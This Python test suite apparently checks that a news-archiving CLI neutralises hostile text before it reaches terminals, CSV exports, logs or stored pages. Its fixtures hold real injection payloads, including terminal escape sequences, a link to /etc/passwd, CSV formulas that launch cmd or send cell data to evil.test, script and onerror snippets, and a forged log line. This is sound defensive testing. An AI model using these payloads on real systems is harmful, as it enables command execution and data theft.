"""What pages say is text: no escape sequence reaches a terminal, no formula a spreadsheet, no markup a reader."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import tomllib
from collections.abc import Iterator
from pathlib import Path

import click
import psycopg
import pytest
import typer
from psycopg import errors, sql
from rich.console import Console

from tests.cli.conftest import Dateline, run
from tests.site.press import Press
from tests.worker.builders import add_feed, add_host, add_page, article, insert, prose, save
from worker import logs
from worker.cli import diff, main, output, view
from worker.db import Connection, Pool
from worker.sourcefile import SourceFileError
from worker.workers import Health

EVIL = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b31m\x9d0;x\x9c\x7f\x08\r\x00[link=file:///etc/passwd]x[/]"
STORED = EVIL.replace("\x00", "")  # Postgres takes the rest
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


TEXTS = """
    select c.table_name as "table", c.column_name as name, c.data_type = 'ARRAY' as is_list
      from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type in ('text', 'ARRAY')
       and (c.table_name, c.column_name) not in (('source', 'origin'), ('feed', 'url'))"""  # addresses are normalised


@pytest.fixture
def poisoned(pool: Pool, conn: Connection) -> int:
    """A database in which every text that may be anything is hostile; how many columns that are."""
    add_host(conn, "paper.example", trouble="dns")
    for number in (1, 2):
        save(pool, article(number))
    conn.execute("update source set origin = 'added'")
    add_feed(conn, "https://paper.example/feed")
    save(pool, article(1, title="Headline 1, revised", paragraphs=(prose(5), prose(1001))))
    save(pool, article(3, paragraphs=article(1).paragraphs, source="other"))
    page = add_page(conn, "https://paper.example/story/9")
    insert(
        conn, "fetch_log", kind="page", host="paper.example", url="x", page_id=page, reason="dns", worker="w", weight=1
    )
    conn.execute("select dateline.acknowledge('c', 1)")
    conn.execute("update article set provenance = jsonb_build_object('title', %s::text)", (STORED,))
    columns = conn.execute(TEXTS).fetchall()
    return sum(poison(conn, column["table"], column["name"], column["is_list"]) for column in columns)


def poison(conn: Connection, table: str, column: str, is_list: bool) -> bool:
    """Write the hostile text into every row of a column, unless a constraint forbids it."""
    names = sql.Identifier(table), sql.Identifier(column)
    try:
        conn.execute(sql.SQL("update {} set {} = %s").format(*names), ([STORED] if is_list else STORED,))
    except (errors.IntegrityError, errors.DatatypeMismatch):
        return False
    return True


COMMANDS = {
    "articles list": [[], ["--json"]],
    "articles search": [["pwned"], ["pwned", "--json"]],
    "articles show": [["1"]],
    "articles diff": [["1"], ["1", "--json"]],
    "articles export": [[], ["--format", "csv"], ["--format", "jsonl"]],
    "events tail": [["--after", "0"], ["--after", "0", "--json"]],
    "events consumers": [[], ["--json"]],
    "events register": [["\x1b]0;pwned\x07"], ["\x1b", "--after", "99"]],
    "events forget": [["\x1b]0;pwned\x07nobody"]],
    "sources list": [[], ["--json"]],
    "sources show": [["paper"], ["\x1b]0;x\x07"]],
    "sources add": [["http://\x1b]0;x\x07/"], ["\x1b]0;x\x07"], ["http://harbour-gazette.test/hostile.xml"]],
    "sources pause": [["\x1b[2J"], ["paper"]],
    "sources resume": [["\x1b[2J"], ["paper"]],
    "sources check": [["\x1b[2J"], []],
    "sources import": [["\x1b[2J.toml"], ["hostile.toml"], ["hostile.opml"]],
    "sources export": [[], ["--format", "opml"]],
    "archive export": [["-o", "\x1b[2J/x.warc"]],
    "archive move": [["--to", "postgres"], ["--to", "\x1b[2J"]],
    "archive check": [[]],
    "archive repoint": [["/\x1b[2J", "/\x1b]0;x\x07"], ["\x1b[2J", "/x"]],
    "status": [[], ["--json"]],
    "compare": [["1", "2"], ["1", "2", "--json"], ["--batch", "hostile.jsonl"], ["\x1b[2J", "2"]],
    "explain": [["1"], ["1", "--json"], ["https://paper.example/story/9"], ["\x1b[2J"]],
    "crawl": [
        ["http://harbour-gazette.test/\x1b]0;x\x07"],
        ["\x1b[2J"],
        ["http://harbour-gazette.test/hostile.html"],
        ["http://harbour-gazette.test/hostile.bin"],
        ["http://harbour-gazette.test/hostile.bin", "--json"],
    ],
    "extract": [["hostile.html", "--url", "http://x.test/"], ["--batch", "hostile.jsonl"], ["\x1b[2J"]],
    "db init": [[]],
    "db check": [[]],
    "db migrate": [[]],
    "db url": [[]],
    "sources remove": [["\x1b[2J"], ["other"]],
}
RUN_ELSEWHERE = {"up", "worker", "beat"}  # what they print of rows is the live view, and logs: both are tested below


def test_every_command_is_tried() -> None:
    assert set(commands(typer.main.get_command(main.app))) == COMMANDS.keys() | RUN_ELSEWHERE


def commands(command: click.Command, prefix: str = "") -> Iterator[str]:
    """Every command below one, by its words."""
    for name, child in command.commands.items():
        words = f"{prefix} {name}".strip()
        yield from commands(child, words) if hasattr(child, "commands") else [words]


@pytest.fixture
def files(alone: Path, press: Press) -> None:
    """Hostile files and pages, for the commands that read them."""
    page = f"<html><head><title>{EVIL}</title></head><body><h1>{EVIL}A story</h1><p>{EVIL}{prose(7)}</p></body></html>"
    feed = (
        f"<rss><channel><title>{EVIL}</title><item><title>{EVIL}</title>"
        "<link>http://harbour-gazette.test/hostile.html</link></item></channel></rss>"
    )
    press.gazette.serve("/hostile.html", page.encode())
    press.gazette.serve("/hostile.xml", feed.encode(), "application/rss+xml")
    press.gazette.serve("/hostile.bin", b"\0\1", "image/\x9b31m\x1b]0;pwned")
    (alone / "hostile.html").write_bytes(page.encode())
    (alone / "hostile.toml").write_text(f"[x]\nname = {json.dumps(EVIL)}\nfeeds = ['nonsense']\n")
    (alone / "hostile.opml").write_text(f'<opml><outline text="{EVIL}" xmlUrl="http://o.test/f"/></opml>')
    lines = [{"id": EVIL, "html_path": EVIL[1:9], "a": {"title": EVIL, "body": EVIL}, "b": {EVIL: 1}}, {EVIL: 1}]
    (alone / "hostile.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


@pytest.mark.usefixtures("files")
def test_no_command_sends_an_escape_sequence_to_the_terminal(dateline: Dateline, poisoned: int) -> None:
    assert poisoned >= 30
    for command, lines in COMMANDS.items():
        for words in lines:
            shown = dateline(*command.split(), *words)
            assert shown.exit_code in (0, 1, 2)
            assert isinstance(shown.exception, None | SystemExit | SourceFileError), (command, words, shown.exception)
            said = shown.output.replace("\r\n", "\n")  # csv ends its lines so
            assert not RAW.search(said), (command, words, said)


def test_text_that_is_shown_keeps_what_it_said(dateline: Dateline, poisoned: int) -> None:
    shown = dateline("articles", "list").stdout

    assert r"\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b31m\x9d0;x\x9c\x7f\x08\x0d[link=file:///etc/passwd]x[/]" in shown
    assert json.loads(dateline("articles", "show", "1").stdout)["title"] == STORED
    assert "x9b31m" in dateline("sources", "list").stdout
    assert tomllib.loads(dateline("sources", "export").stdout)["paper"]["name"] == STORED


def test_the_live_view_draws_no_escape_sequence(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"id": 1, "source": EVIL, "title": EVIL, "first_seen": None}]
    health = Health(1, 1, 0.0)
    picture = view.Picture(health, 1, 1, 1, 1, 1.0, {EVIL: 1}, rows, {EVIL: EVIL}, 1, [EVIL])
    screen = io.StringIO()

    Console(file=screen, force_terminal=True, width=200).print(view.draw(picture))
    view.Lines(0.0).show(picture)

    ours = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours
    assert "pwned" in screen.getvalue()
    assert not RAW.search(ours.sub("", screen.getvalue().replace(EVIL, "")))
    assert not RAW.search(capsys.readouterr().out)


def test_a_coloured_difference_has_no_escape_sequence_but_its_colours(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = io.StringIO()
    monkeypatch.setattr(output, "out", Console(file=screen, force_terminal=True, width=10_000))
    diff._show("title", [("same", EVIL), ("removed", EVIL), ("added", EVIL)])

    assert "\x1b[1;32m" in screen.getvalue()
    assert not RAW.search(re.sub(r"\x1b\[[0-9;]*m", "", screen.getvalue()))


def test_a_message_of_the_log_is_one_line_without_escape_sequences(capsys: pytest.CaptureFixture[str]) -> None:
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    try:
        logs.configure("INFO")
        try:
            raise ValueError(EVIL)
        except ValueError:
            logging.getLogger("x").exception("%s\n2026-01-01 00:00:00,000 ERROR worker: forged", EVIL)
    finally:
        root.handlers[:] = before
        root.setLevel(level)

    said = capsys.readouterr().err
    assert not RAW.search(said)
    assert [line for line in said.split("\n") if line.startswith("2026-01-01")] == []
    assert said.count("Traceback") == 1


# Spreadsheets -------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test/?"&A1,"x")', "+1", "-1+1|cmd", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)",  # noqa: RUF001  # these are meant
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_file_is_a_formula(dateline: Dateline, pool: Pool, conn: Connection, formula: str) -> None:
    save(pool, article(1))
    conn.execute(
        "update article set title = %(f)s, body = %(f)s, authors = array[%(f)s], section = %(f)s", {"f": formula}
    )
    dateline("articles", "export", "--format", "csv", "-o", "a.csv")

    with Path("a.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    for name in ("title", "body", "authors", "section"):
        assert row[name][0] in "'\\", row[name]
        assert row[name].endswith(formula.strip())
    assert [name for name, cell in row.items() if cell.startswith(tuple("=+-@\t\r"))] == []


# Markup -------------------------------------------------------------------------------------------------------------


def test_markup_in_a_story_is_stored_as_text(dateline: Dateline, press: Press, conn: Connection) -> None:
    said = "&lt;script&gt;alert(1)&lt;/script&gt;"
    page = (
        f"<html><body><article><h1>How {said} works</h1><script>alert(2)</script>"
        f"<p onclick=x>{prose(1)} {said} {prose(2)} <img src=x onerror=y></p><p>{prose(3)}</p></article></body></html>"
    )
    dateline("crawl", press.gazette.serve("/about-html", page.encode()))

    [row] = conn.execute("select title, body from article").fetchall()
    assert "<script>alert(1)</script>" in row["body"]
    assert not re.search("onclick|onerror|alert.2|<img|&lt;", row["body"] + row["title"])


@pytest.mark.parametrize("words", [["status"], ["db", "check"]])
def test_an_error_of_the_server_is_shown_without_escape_sequences(
    monkeypatch: pytest.MonkeyPatch, alone: Path, words: list[str], capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATELINE_DATABASE_URL", "postgresql://127.0.0.1:1/\x1b]0;x\x07")
    shown = run(*words)
    assert isinstance(shown.exception, psycopg.Error)
    output.complain(str(shown.exception))
    assert not RAW.search(capfd.readouterr().err)
